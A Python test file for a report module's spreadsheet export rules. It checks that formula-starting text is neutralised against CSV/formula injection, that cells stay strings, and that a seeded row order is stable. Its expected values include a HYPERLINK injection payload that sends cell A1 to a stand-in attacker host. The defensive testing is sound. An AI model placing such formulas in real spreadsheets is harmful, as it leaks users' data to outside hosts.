"""The export rules of samson.reports.safety, without a database: formula neutralisation
(OWASP CSV injection) and the fixed random row order."""

from __future__ import annotations

import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook

from samson.reports.safety import (
    data_fingerprint,
    fixed_order,
    spreadsheet_cell,
    spreadsheet_text,
    xlsx_append,
)

from .conftest import ATTACKS


@pytest.mark.parametrize("text", ATTACKS)
def test_every_formula_start_of_owasp_gets_a_leading_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Godt samarbeid", " =1", "'=1", "1+1", "a=b", "E-post: x@y.no", "\n=1"]
)
def test_text_that_starts_otherwise_is_left_as_written(text):
    assert spreadsheet_text(text) == text


def test_null_first_is_neutralised_too():
    # OWASP ASVS 5.0, requirement 1.2.10, lists the null character beside OWASP's six.
    assert spreadsheet_text("\0=1") == "'\0=1"


def test_numbers_and_dates_stay_what_they_are():
    assert spreadsheet_cell(-2) == -2
    assert spreadsheet_cell(-2.5) == -2.5
    assert spreadsheet_cell(0) == 0
    assert spreadsheet_cell(None) is None
    day = datetime.date(2026, 1, 2)
    assert spreadsheet_cell(day) is day
    assert spreadsheet_cell("-2") == "'-2"  # text that looks like a number is still text


def test_xlsx_cells_are_strings_never_formulas_and_read_back_neutralised():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, [*ATTACKS, -2, 3.5, "\x01ok"])
    out = io.BytesIO()
    book.save(out)
    row = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [cell.data_type for cell in row] == ["s"] * 6 + ["n", "n", "s"]
    assert [cell.value for cell in row] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\n=1",  # XML reads a carriage return as a line feed; the quote stays first
        -2,
        3.5,
        "\ufffdok",  # a control character an XLSX file cannot hold
    ]


def test_plain_openpyxl_would_have_made_a_formula():
    """The reason for xlsx_append: openpyxl turns a str starting with "=" into a formula."""
    sheet = Workbook().active
    sheet.append([ATTACKS[0]])
    assert sheet["A1"].data_type == "f"


def test_fixed_order_is_stable_for_a_seed_and_differs_between_seeds():
    keys = list(range(100, 120))
    first = fixed_order(keys, b"seed one")
    assert sorted(first) == list(range(20))
    assert fixed_order(keys, b"seed one") == first
    assert fixed_order(keys, b"seed two") != first
    assert first != list(range(20)) and first != list(range(19, -1, -1))


def test_fixed_order_ranks_each_key_on_its_own():
    """A key's rank depends on the seed and the key only, so its place among the others does
    not follow from its place in the input."""
    order = fixed_order(["a", "b", "c", "d"], b"seed")
    assert [["a", "b", "c", "d"][i] for i in order] == [
        ["d", "c", "b", "a"][i] for i in fixed_order(["d", "c", "b", "a"], b"seed")
    ]


def test_data_fingerprint_changes_with_any_part():
    base = data_fingerprint(["answers", 1, 10, 11])
    assert base == data_fingerprint(["answers", 1, 10, 11])
    assert base != data_fingerprint(["answers", 1, 10, 12])
    assert base != data_fingerprint(["free-text", 1, 10, 11])
    assert base != data_fingerprint(["answers", 11, 0, 11])


def test_the_rules_import_no_django():
    """Pure, so the barometer's exports (and anything else) can share them."""
    import subprocess
    import sys

    code = "import sys, samson.reports.safety; sys.exit('django' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
